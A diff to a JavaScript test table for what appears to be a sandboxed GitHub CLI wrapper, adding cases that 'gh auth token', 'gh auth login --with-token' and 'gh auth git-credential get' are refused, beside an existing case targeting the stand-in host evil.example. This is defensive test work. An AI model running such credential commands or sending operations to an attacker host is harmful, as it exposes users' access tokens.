@@ -185,7 +185,9 @@ test.each([
   ["gh`js`", "There is no command"],
   ["gh`mcp`", "There is no command"],
   ["gh`setup`", "There is no command"],
-  ["gh`auth token`", ""],
+  ["gh`auth token`", "works on this machine"],
+  ["gh`auth login --with-token`", "works on this machine"],
+  ["gh`auth git-credential get`", "works on this machine"],
   ["gh`issue close 1 -R https://evil.example/octocat/hello-world`", "evil.example"],
   ["ghx.issue.close({ issue_number: 1, owner: 1 })", "/owner"],
 ])("a script is refused, and sends nothing: %s", async (code, message) => {
